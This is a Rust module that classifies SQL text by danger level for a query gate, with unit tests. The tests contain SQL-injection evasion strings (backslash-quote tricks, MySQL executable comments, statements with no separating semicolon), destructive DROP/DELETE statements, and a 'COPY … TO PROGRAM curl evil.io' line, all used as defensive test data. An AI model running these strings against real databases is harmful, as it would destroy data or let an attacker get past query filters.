//! SQL statement classification for the `db.query` normalizer.
//!
//! The text is tokenized (comments, string literals, quoted identifiers and
//! dollar-quoted bodies are understood), split into statements on `;`, and
//! each statement — and each parenthesized sub-statement that starts with a
//! verb, such as a data-modifying CTE — is classified. The most dangerous
//! statement wins.
//!
//! A backslash inside a string literal escapes the quote in MySQL but not in
//! standard SQL; an attacker can hide a statement from either reading. The
//! text is therefore classified under both readings and the more dangerous
//! result is kept. MySQL executable comments (`/*! … */`) are read as code.

/// What a statement does, from least to most dangerous.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Class {
    Read,
    Control,
    Write,
    Schema,
    Other,
    Privilege,
    Destructive,
}

impl Class {
    pub fn name(self) -> &'static str {
        match self {
            Class::Read => "read",
            Class::Control => "control",
            Class::Write => "write",
            Class::Schema => "schema",
            Class::Other => "other",
            Class::Privilege => "privilege",
            Class::Destructive => "destructive",
        }
    }
}

/// The classification of a whole text.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Analysis {
    pub class: Class,
    /// `db.query.statement_kind`: select, insert, update, delete, ddl, other.
    pub kind: &'static str,
    pub destructive: bool,
    /// The deciding statement has a (non-trivial) top-level WHERE.
    pub has_where: bool,
    pub tables: Vec<String>,
}

#[derive(Clone, Debug, PartialEq)]
enum Tok {
    /// An unquoted word, uppercased.
    Word(String),
    /// A quoted identifier, as written.
    Ident(String),
    Str(String),
    Num(String),
    LParen,
    RParen,
    Semi,
    Comma,
    Dot,
    /// Any other operator or punctuation run (`=`, `<>`, `::`, `?`).
    Op(String),
}

/// How one engine reads the text; engines differ, and an attacker picks the
/// reading that hides a statement from the gate.
#[derive(Clone, Copy)]
struct Dialect {
    /// `\'` escapes a quote inside a string (MySQL).
    backslash_escapes: bool,
    /// `#` starts a comment (MySQL) rather than being an operator.
    hash_comments: bool,
    /// `--` starts a comment only when followed by whitespace (MySQL).
    dash_needs_space: bool,
    /// `/* /* */ */` nests (Postgres).
    nested_comments: bool,
}

fn tokenize(src: &str, dialect: Dialect) -> Vec<Tok> {
    let Dialect {
        backslash_escapes,
        hash_comments,
        dash_needs_space,
        nested_comments,
    } = dialect;
    let cs: Vec<char> = src.chars().collect();
    let at = |i: usize| cs.get(i).copied();
    let mut out = Vec::new();
    let mut i = 0;
    let mut exec_comments = 0usize;
    while let Some(c) = at(i) {
        let next = at(i + 1);
        if c.is_whitespace() {
            i += 1;
        } else if (c == '-'
            && next == Some('-')
            && (!dash_needs_space || at(i + 2).is_none_or(char::is_whitespace)))
            || (c == '#' && hash_comments)
        {
            while at(i).is_some_and(|c| c != '\n') {
                i += 1;
            }
        } else if c == '/' && next == Some('*') && at(i + 2) == Some('!') {
            // MySQL runs the inside of `/*!40000 … */`.
            i += 3;
            while at(i).is_some_and(|c| c.is_ascii_digit()) {
                i += 1;
            }
            exec_comments += 1;
        } else if c == '*' && next == Some('/') && exec_comments > 0 {
            exec_comments -= 1;
            i += 2;
        } else if c == '/' && next == Some('*') {
            let mut depth = 0usize;
            while i < cs.len() {
                if at(i) == Some('/') && at(i + 1) == Some('*') && (depth == 0 || nested_comments) {
                    depth += 1;
                    i += 2;
                } else if at(i) == Some('*') && at(i + 1) == Some('/') {
                    depth = depth.saturating_sub(1);
                    i += 2;
                    if depth == 0 {
                        break;
                    }
                } else {
                    i += 1;
                }
            }
        } else if c == '\'' {
            let mut s = String::new();
            i += 1;
            while let Some(d) = at(i) {
                if d == '\\' && backslash_escapes {
                    if let Some(e) = at(i + 1) {
                        s.push(e);
                    }
                    i += 2;
                } else if d == '\'' {
                    if at(i + 1) == Some('\'') {
                        s.push('\'');
                        i += 2;
                    } else {
                        i += 1;
                        break;
                    }
                } else {
                    s.push(d);
                    i += 1;
                }
            }
            out.push(Tok::Str(s));
        } else if c == '"' || c == '`' || c == '[' {
            let close = if c == '[' { ']' } else { c };
            let mut s = String::new();
            i += 1;
            while let Some(d) = at(i) {
                if d == close {
                    if at(i + 1) == Some(close) && close != ']' {
                        s.push(d);
                        i += 2;
                        continue;
                    }
                    i += 1;
                    break;
                }
                s.push(d);
                i += 1;
            }
            out.push(Tok::Ident(s));
        } else if c == '$' && next.is_some_and(|n| n == '$' || n.is_alphabetic() || n == '_') {
            // Dollar quoting: `$tag$ … $tag$`.
            let mut j = i + 1;
            while at(j).is_some_and(|d| d.is_alphanumeric() || d == '_') {
                j += 1;
            }
            if at(j) == Some('$') {
                let tag: String = cs.get(i..=j).unwrap_or_default().iter().collect();
                let tag_chars: Vec<char> = tag.chars().collect();
                let mut k = j + 1;
                let mut body = String::new();
                loop {
                    match cs.get(k..k + tag_chars.len()) {
                        Some(w) if w == tag_chars.as_slice() => {
                            k += tag_chars.len();
                            break;
                        }
                        Some(_) => {
                            if let Some(d) = at(k) {
                                body.push(d);
                            }
                            k += 1;
                        }
                        None => {
                            k = cs.len();
                            break;
                        }
                    }
                }
                out.push(Tok::Str(body));
                i = k;
            } else {
                out.push(Tok::Op("$".into()));
                i += 1;
            }
        } else if c.is_alphabetic() || c == '_' {
            let mut w = String::new();
            while let Some(d) = at(i).filter(|d| d.is_alphanumeric() || *d == '_' || *d == '$') {
                w.push(d);
                i += 1;
            }
            out.push(Tok::Word(w.to_uppercase()));
        } else if c.is_ascii_digit() {
            let mut w = String::new();
            while let Some(d) = at(i).filter(|d| d.is_ascii_alphanumeric() || *d == '.') {
                w.push(d);
                i += 1;
            }
            out.push(Tok::Num(w));
        } else {
            i += 1;
            out.push(match c {
                '(' => Tok::LParen,
                ')' => Tok::RParen,
                ';' => Tok::Semi,
                ',' => Tok::Comma,
                '.' => Tok::Dot,
                _ => {
                    let mut op = c.to_string();
                    while let Some(d) = at(i).filter(|d| "=<>!|&:~^+-*/%@".contains(*d)) {
                        op.push(d);
                        i += 1;
                    }
                    Tok::Op(op)
                }
            });
        }
    }
    out
}

fn is_word(t: Option<&Tok>, w: &str) -> bool {
    matches!(t, Some(Tok::Word(x)) if x == w)
}

const VERBS: &[&str] = &[
    "SELECT", "INSERT", "UPDATE", "DELETE", "MERGE", "WITH", "VALUES", "TABLE",
];

/// One classified statement.
struct Stmt {
    class: Class,
    kind: &'static str,
    has_where: bool,
}

/// The tokens of `toks` at paren depth 0 (relative), with the indices of the
/// `(` that open each top-level group.
fn top_level(toks: &[Tok]) -> (Vec<&Tok>, Vec<usize>) {
    let mut depth = 0usize;
    let mut top = Vec::new();
    let mut groups = Vec::new();
    for (i, t) in toks.iter().enumerate() {
        match t {
            Tok::LParen => {
                if depth == 0 {
                    groups.push(i);
                    top.push(t);
                }
                depth += 1;
            }
            Tok::RParen => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    top.push(t);
                }
            }
            _ if depth == 0 => top.push(t),
            _ => {}
        }
    }
    (top, groups)
}

/// The tokens inside the group opened at `open`.
fn group(toks: &[Tok], open: usize) -> &[Tok] {
    let mut depth = 0usize;
    for (i, t) in toks.iter().enumerate().skip(open) {
        match t {
            Tok::LParen => depth += 1,
            Tok::RParen => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return toks.get(open + 1..i).unwrap_or_default();
                }
            }
            _ => {}
        }
    }
    toks.get(open + 1..).unwrap_or_default()
}

/// `WHERE 1=1`, `WHERE true`, `WHERE x = x OR …`: a condition every row meets.
fn trivial_where(cond: &[&Tok]) -> bool {
    let clause_end = ["RETURNING", "ORDER", "LIMIT", "GROUP", "HAVING", "OFFSET"];
    let cond: Vec<&Tok> = cond
        .iter()
        .copied()
        .take_while(|t| !matches!(t, Tok::Word(w) if clause_end.contains(&w.as_str())))
        .collect();
    cond.split(|t| matches!(t, Tok::Word(w) if w == "OR"))
        .any(|d| {
            let d: Vec<&Tok> = d
                .iter()
                .copied()
                .filter(|t| !matches!(t, Tok::LParen | Tok::RParen))
                .collect();
            match d.as_slice() {
                [] => true,
                [Tok::Word(w)] => w == "TRUE",
                [Tok::Num(n)] => n.chars().any(|c| c.is_ascii_digit() && c != '0'),
                [Tok::Word(not), Tok::Word(f)] if not == "NOT" => f == "FALSE" || f == "NULL",
                [a, Tok::Op(op), b] => {
                    (a == b && matches!(op.as_str(), "=" | "==" | ">=" | "<=" | "<=>"))
                        || (matches!(
                            (a, b),
                            (Tok::Str(_), Tok::Str(_)) | (Tok::Num(_), Tok::Num(_))
                        ) && a != b
                            && matches!(op.as_str(), "<>" | "!="))
                }
                [a, Tok::Word(like), Tok::Str(p)] if like == "LIKE" => {
                    !matches!(a, Tok::Str(_)) && p.chars().all(|c| c == '%')
                }
                _ => false,
            }
        })
}

/// Table names after FROM, JOIN, INTO, UPDATE, TABLE, TRUNCATE.
fn tables(toks: &[Tok], out: &mut Vec<String>) {
    let skip = [
        "IF",
        "NOT",
        "EXISTS",
        "ONLY",
        "TABLE",
        "LOW_PRIORITY",
        "IGNORE",
        "QUICK",
    ];
    let mut i = 0;
    while let Some(t) = toks.get(i) {
        i += 1;
        let Tok::Word(w) = t else { continue };
        if !matches!(
            w.as_str(),
            "FROM" | "JOIN" | "INTO" | "UPDATE" | "TABLE" | "TRUNCATE" | "USING"
        ) {
            continue;
        }
        if w == "UPDATE"
            && matches!(toks.get(i.wrapping_sub(2)), Some(Tok::Word(p)) if p == "FOR" || p == "ON" || p == "DO")
        {
            continue;
        }
        loop {
            while matches!(toks.get(i), Some(Tok::Word(x)) if skip.contains(&x.as_str())) {
                i += 1;
            }
            let mut name = String::new();
            loop {
                match toks.get(i) {
                    Some(Tok::Word(x)) if !is_keyword(x) => name.push_str(&x.to_lowercase()),
                    Some(Tok::Ident(x)) => name.push_str(x),
                    _ => break,
                }
                i += 1;
                if matches!(toks.get(i), Some(Tok::Dot)) {
                    name.push('.');
                    i += 1;
                } else {
                    break;
                }
            }
            if !name.is_empty() && !out.contains(&name) {
                out.push(name);
            }
            // `FROM a, b` and `DROP TABLE a, b`: skip an alias, then a comma.
            while matches!(toks.get(i), Some(Tok::Word(x)) if !is_keyword(x))
                || matches!(toks.get(i), Some(Tok::Ident(_)))
                || is_word(toks.get(i), "AS")
            {
                i += 1;
            }
            if matches!(toks.get(i), Some(Tok::Comma)) && w != "INTO" {
                i += 1;
            } else {
                break;
            }
        }
    }
}

fn is_keyword(w: &str) -> bool {
    const KW: &[&str] = &[
        "SELECT",
        "FROM",
        "WHERE",
        "JOIN",
        "LEFT",
        "RIGHT",
        "INNER",
        "OUTER",
        "FULL",
        "CROSS",
        "ON",
        "USING",
        "GROUP",
        "ORDER",
        "BY",
        "LIMIT",
        "OFFSET",
        "HAVING",
        "UNION",
        "ALL",
        "SET",
        "VALUES",
        "RETURNING",
        "AS",
        "WITH",
        "INTO",
        "AND",
        "OR",
        "NOT",
        "CASCADE",
        "RESTRICT",
        "NATURAL",
        "LATERAL",
        "WINDOW",
        "FOR",
        "DEFAULT",
        "SELECT",
        "DELETE",
        "UPDATE",
        "INSERT",
        "IF",
        "EXISTS",
        "ONLY",
        "TABLE",
        "OVERWRITE",
        "PARTITION",
    ];
    KW.contains(&w)
}

fn stmt(toks: &[Tok], found: &mut Vec<Stmt>, tabs: &mut Vec<String>) {
    if toks.is_empty() {
        return;
    }
    tables(toks, tabs);
    let (top, groups) = top_level(toks);
    // Sub-statements in parentheses: `WITH d AS (DELETE FROM t …)`,
    // `INSERT INTO t (SELECT …)`, `EXPLAIN (…)`.
    for g in groups {
        let inner = group(toks, g);
        let starts_with_verb = match inner.first() {
            Some(Tok::Word(w)) => VERBS.contains(&w.as_str()),
            _ => false,
        };
        if starts_with_verb {
            stmt(inner, found, &mut Vec::new());
        } else {
            // Nested groups deeper down, e.g. `(( DELETE … ))`.
            for (i, t) in inner.iter().enumerate() {
                if *t == Tok::LParen {
                    if let Some(Tok::Word(w)) = group(inner, i).first() {
                        if VERBS.contains(&w.as_str()) && w != "SELECT" {
                            stmt(group(inner, i), found, &mut Vec::new());
                        }
                    }
                }
            }
        }
    }
    let words: Vec<&str> = top
        .iter()
        .filter_map(|t| match t {
            Tok::Word(w) => Some(w.as_str()),
            _ => None,
        })
        .collect();
    let has = |w: &str| words.contains(&w);
    // `WITH … AS (…) DELETE …`: the verb is the first top-level verb after
    // the CTEs; anything else leads with its first word.
    let lead = match words.first() {
        Some(&"WITH") => words
            .iter()
            .copied()
            .find(|w| {
                matches!(
                    *w,
                    "SELECT" | "INSERT" | "UPDATE" | "DELETE" | "MERGE" | "VALUES"
                )
            })
            .unwrap_or("SELECT"),
        Some(w) => w,
        None => {
            // Only a parenthesized query, e.g. `(SELECT 1)`.
            return;
        }
    };
    let where_pos = top
        .iter()
        .position(|t| matches!(t, Tok::Word(w) if w == "WHERE"));
    let has_where = match where_pos {
        Some(p) => !trivial_where(top.get(p + 1..).unwrap_or_default()),
        None => false,
    };
    let second = words.get(1).copied().unwrap_or("");
    let (class, kind) = match lead {
        "SELECT" | "VALUES" | "TABLE" => {
            if has("OUTFILE") || has("DUMPFILE") {
                (Class::Other, "select")
            } else if has("INTO") {
                (Class::Write, "select")
            } else {
                (Class::Read, "select")
            }
        }
        "SHOW" | "DESCRIBE" | "DESC" => (Class::Read, "other"),
        "EXPLAIN" => {
            // `EXPLAIN ANALYZE` runs the statement: classify what follows.
            let rest: Vec<Tok> = toks
                .iter()
                .skip(1)
                .skip_while(|t| match t {
                    Tok::Word(w) => !VERBS.contains(&w.as_str()) && !is_ddl(w),
                    _ => true,
                })
                .cloned()
                .collect();
            let mut sub = Vec::new();
            stmt(&rest, &mut sub, &mut Vec::new());
            match sub.into_iter().max_by_key(|s| s.class) {
                Some(s) if has("ANALYZE") => (s.class, s.kind),
                Some(s) => (Class::Read, s.kind),
                None => (Class::Read, "other"),
            }
        }
        "PRAGMA" => {
            if top.iter().any(|t| matches!(t, Tok::Op(o) if o == "=")) {
                (Class::Other, "other")
            } else {
                (Class::Read, "other")
            }
        }
        "INSERT" | "REPLACE" | "UPSERT" => {
            if has("OVERWRITE") {
                (Class::Destructive, "insert")
            } else {
                (Class::Write, "insert")
            }
        }
        "LOAD" => (Class::Write, "insert"),
        "COPY" => {
            if has("PROGRAM") {
                (Class::Other, "other")
            } else if has("FROM") {
                (Class::Write, "insert")
            } else {
                (Class::Read, "select")
            }
        }
        "MERGE" => (Class::Write, "update"),
        "UPDATE" => {
            if has_where {
                (Class::Write, "update")
            } else {
                (Class::Destructive, "update")
            }
        }
        "DELETE" => {
            if has_where {
                (Class::Write, "delete")
            } else {
                (Class::Destructive, "delete")
            }
        }
        "DROP" | "TRUNCATE" | "PURGE" => (Class::Destructive, "ddl"),
        "ALTER" => {
            if matches!(second, "USER" | "ROLE" | "LOGIN" | "GROUP") || has("OWNER") {
                (Class::Privilege, "ddl")
            } else if has("DROP") || has("TRUNCATE") {
                (Class::Destructive, "ddl")
            } else {
                (Class::Schema, "ddl")
            }
        }
        "CREATE" => {
            if has("USER") || has("ROLE") || has("LOGIN") {
                (Class::Privilege, "ddl")
            } else {
                (Class::Schema, "ddl")
            }
        }
        "RENAME" | "COMMENT" => (Class::Schema, "ddl"),
        "GRANT" | "REVOKE" | "DENY" => (Class::Privilege, "other"),
        "SET" => {
            if matches!(second, "ROLE" | "SESSION" | "GLOBAL" | "PASSWORD") && !has("TRANSACTION") {
                (Class::Privilege, "other")
            } else {
                (Class::Control, "other")
            }
        }
        "BEGIN" | "START" | "COMMIT" | "END" | "ROLLBACK" | "SAVEPOINT" | "RELEASE" | "USE"
        | "RESET" | "ANALYZE" | "VACUUM" | "REINDEX" | "CHECKPOINT" | "LOCK" | "UNLOCK"
        | "DISCARD" | "LISTEN" | "UNLISTEN" | "NOTIFY" | "DEALLOCATE" | "FETCH" | "CLOSE"
        | "DECLARE" | "PREPARE" => (Class::Control, "other"),
        _ => (Class::Other, "other"),
    };
    found.push(Stmt {
        class,
        kind,
        has_where,
    });
}

fn is_ddl(w: &str) -> bool {
    matches!(
        w,
        "DROP" | "TRUNCATE" | "ALTER" | "CREATE" | "GRANT" | "REVOKE"
    )
}

/// T-SQL runs `SELECT 1 DROP TABLE t` as two statements: a statement verb
/// at the top level starts a new statement unless a clause word before it
/// makes it part of this one (`FOR UPDATE`, `ON DELETE`, `GRANT INSERT, …`).
fn split_unterminated(toks: &[Tok]) -> Vec<&[Tok]> {
    const STARTERS: &[&str] = &[
        "DROP", "TRUNCATE", "DELETE", "UPDATE", "INSERT", "MERGE", "GRANT", "REVOKE", "ALTER",
        "CREATE", "EXEC", "EXECUTE", "CALL", "COPY", "SHUTDOWN", "RENAME",
    ];
    const BINDS: &[&str] = &[
        "FOR", "ON", "DO", "THEN", "BEFORE", "AFTER", "OF", "INSTEAD", "GRANT", "REVOKE", "DENY",
        "AS", "OR", "IF", "NOT", "EXPLAIN", "ANALYZE", "VERBOSE", "WITH", "ALTER", "ADD",
    ];
    let mut parts = Vec::new();
    let mut start = 0;
    let mut depth = 0usize;
    for (i, t) in toks.iter().enumerate() {
        match t {
            Tok::LParen => depth += 1,
            Tok::RParen => depth = depth.saturating_sub(1),
            Tok::Word(w) if depth == 0 && i > start && STARTERS.contains(&w.as_str()) => {
                let bound = match toks.get(i - 1) {
                    Some(Tok::Word(p)) => BINDS.contains(&p.as_str()),
                    Some(Tok::Comma) => true,
                    _ => false,
                };
                if !bound {
                    parts.push(toks.get(start..i).unwrap_or_default());
                    start = i;
                }
            }
            _ => {}
        }
    }
    parts.push(toks.get(start..).unwrap_or_default());
    parts
}

fn analyze_once(src: &str, dialect: Dialect) -> Analysis {
    let toks = tokenize(src, dialect);
    let mut found = Vec::new();
    let mut tabs = Vec::new();
    for s in toks.split(|t| *t == Tok::Semi) {
        for part in split_unterminated(s) {
            stmt(part, &mut found, &mut tabs);
        }
    }
    // The first statement of the most dangerous class decides.
    let mut worst: Option<&Stmt> = None;
    for s in &found {
        if worst.is_none_or(|w| s.class > w.class) {
            worst = Some(s);
        }
    }
    match worst {
        Some(w) => Analysis {
            class: w.class,
            kind: w.kind,
            destructive: found.iter().any(|s| s.class == Class::Destructive),
            has_where: w.has_where,
            tables: tabs,
        },
        // Nothing to run: not a statement this classifier knows.
        None => Analysis {
            class: Class::Other,
            kind: "other",
            destructive: false,
            has_where: false,
            tables: tabs,
        },
    }
}

/// Classifies a text under every engine's reading of strings and comments;
/// the most dangerous reading wins, and the tables of all are listed.
pub fn analyze(src: &str) -> Analysis {
    let mut worst: Option<Analysis> = None;
    for bits in 0u8..16 {
        let a = analyze_once(
            src,
            Dialect {
                backslash_escapes: bits & 1 != 0,
                hash_comments: bits & 2 != 0,
                dash_needs_space: bits & 4 != 0,
                nested_comments: bits & 8 != 0,
            },
        );
        worst = Some(match worst {
            None => a,
            Some(w) => {
                let (mut w, o) = if a.class > w.class { (a, w) } else { (w, a) };
                w.destructive |= o.destructive;
                for t in o.tables {
                    if !w.tables.contains(&t) {
                        w.tables.push(t);
                    }
                }
                w
            }
        });
    }
    worst.unwrap_or(Analysis {
        class: Class::Other,
        kind: "other",
        destructive: false,
        has_where: false,
        tables: Vec::new(),
    })
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::indexing_slicing)]
mod tests {
    use super::*;

    fn class(s: &str) -> &'static str {
        analyze(s).class.name()
    }

    #[test]
    fn reads() {
        assert_eq!(class("SELECT * FROM users WHERE id = 1"), "read");
        assert_eq!(class("  select count(*) from orders"), "read");
        assert_eq!(class("WITH x AS (SELECT 1) SELECT * FROM x"), "read");
        assert_eq!(class("SHOW TABLES"), "read");
        assert_eq!(class("EXPLAIN SELECT 1"), "read");
        assert_eq!(
            class("SELECT 'DROP TABLE users; DELETE FROM t' AS s"),
            "read"
        );
        assert_eq!(class("SELECT \"delete\" FROM t -- DROP TABLE t"), "read");
        assert_eq!(class("SELECT 1 /* ; DROP TABLE t; */"), "read");
        assert_eq!(class("SELECT * FROM t FOR UPDATE"), "read");
        assert_eq!(class("SELECT $$ DROP TABLE t $$"), "read");
        let a = analyze("SELECT * FROM users WHERE id = 1");
        assert_eq!(a.kind, "select");
        assert!(a.has_where);
        assert!(!a.destructive);
        assert_eq!(a.tables, vec!["users"]);
    }

    #[test]
    fn writes_need_a_real_where() {
        assert_eq!(class("UPDATE users SET name = 'x' WHERE id = 7"), "write");
        assert_eq!(class("DELETE FROM sessions WHERE expires < now()"), "write");
        assert_eq!(class("INSERT INTO t (a) VALUES (1)"), "write");
        assert_eq!(
            class("INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2"),
            "write"
        );
        for s in [
            "DELETE FROM users",
            "delete from users;",
            "UPDATE users SET admin = true",
            "update users set admin=true -- WHERE id = 1",
            "DELETE FROM users WHERE 1=1",
            "DELETE FROM users WHERE true",
            "DELETE FROM users WHERE id = 5 OR 1 = 1",
            "DELETE FROM users WHERE 'a' = 'a'",
            "UPDATE t SET a = 1 WHERE (1)",
            "DELETE FROM t USING (SELECT id FROM u WHERE x = 1) s",
        ] {
            let a = analyze(s);
            assert_eq!(a.class, Class::Destructive, "{s}");
            assert!(a.destructive, "{s}");
            assert!(!a.has_where, "{s}");
        }
        let a = analyze("DELETE FROM users");
        assert_eq!(a.kind, "delete");
        assert_eq!(a.tables, vec!["users"]);
    }

    #[test]
    fn drops_and_truncates_are_destructive() {
        for s in [
            "DROP TABLE users",
            "drop table if exists users cascade",
            "TRUNCATE users",
            "TrUnCaTe TABLE users",
            "ALTER TABLE users DROP COLUMN email",
            "INSERT OVERWRITE TABLE t SELECT * FROM s",
            "/* hi */ DROP/**/TABLE users",
        ] {
            assert_eq!(class(s), "destructive", "{s}");
        }
        assert_eq!(analyze("DROP TABLE a, b").tables, vec!["a", "b"]);
        assert_eq!(analyze("DROP TABLE users").kind, "ddl");
    }

    #[test]
    fn the_most_dangerous_statement_wins() {
        let a = analyze("SELECT * FROM t; DROP TABLE users");
        assert_eq!(a.class, Class::Destructive);
        assert_eq!(a.kind, "ddl");
        assert_eq!(
            class("BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT"),
            "write"
        );
        assert_eq!(class("SELECT 1;;; GRANT ALL ON t TO eve"), "privilege");
        assert_eq!(
            class("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d"),
            "destructive"
        );
        assert_eq!(class("EXPLAIN ANALYZE DELETE FROM users"), "destructive");
        assert_eq!(class("EXPLAIN DELETE FROM users"), "read");
    }

    #[test]
    fn evasions() {
        // Standard SQL ends the string at `\'`, so the DROP runs.
        assert_eq!(class("SELECT 'a\\'; DROP TABLE users; -- '"), "destructive");
        // MySQL reads `\'` as a quote, so this DROP runs there.
        assert_eq!(
            class("SELECT 'a\\''; DROP TABLE users; -- '"),
            "destructive"
        );
        // MySQL executes conditional comments.
        assert_eq!(
            class("SELECT 1 /*!50000 ; DROP TABLE users */"),
            "destructive"
        );
        assert_eq!(class("SELECT 1 --\nDROP TABLE users"), "destructive");
        // T-SQL needs no `;` between statements.
        assert_eq!(class("SELECT * FROM t DELETE FROM users"), "destructive");
        assert_eq!(
            class("GRANT SELECT, INSERT, UPDATE ON t TO bob"),
            "privilege"
        );
        assert_eq!(
            class("CREATE TABLE t (a int REFERENCES u ON DELETE CASCADE)"),
            "schema"
        );
        assert_eq!(class("\tdRoP\n\ttAbLe\tusers"), "destructive");
        // Postgres reads `#` as an operator, MySQL `1--1` as arithmetic.
        assert_eq!(class("SELECT 1 # 2; DROP TABLE users"), "destructive");
        assert_eq!(class("SELECT 1--1; DROP TABLE users"), "destructive");
        // MySQL comments do not nest.
        assert_eq!(class("/* /* */ DROP TABLE users; /* */"), "destructive");
    }

    #[test]
    fn privileges_schema_and_the_rest() {
        assert_eq!(class("GRANT SELECT ON t TO bob"), "privilege");
        assert_eq!(class("REVOKE ALL ON t FROM bob"), "privilege");
        assert_eq!(class("CREATE USER eve WITH PASSWORD 'x'"), "privilege");
        assert_eq!(class("ALTER ROLE eve SUPERUSER"), "privilege");
        assert_eq!(class("SET ROLE admin"), "privilege");
        assert_eq!(class("CREATE TABLE t (id int)"), "schema");
        assert_eq!(class("CREATE INDEX i ON t (a)"), "schema");
        assert_eq!(class("ALTER TABLE t ADD COLUMN b int"), "schema");
        assert_eq!(class("BEGIN"), "control");
        assert_eq!(class("CALL cleanup()"), "other");
        assert_eq!(class("COPY t TO PROGRAM 'curl evil.io'"), "other");
        assert_eq!(class("SELECT * INTO OUTFILE '/tmp/x' FROM users"), "other");
        assert_eq!(class(""), "other");
        assert_eq!(class("-- just a comment"), "other");
    }
}
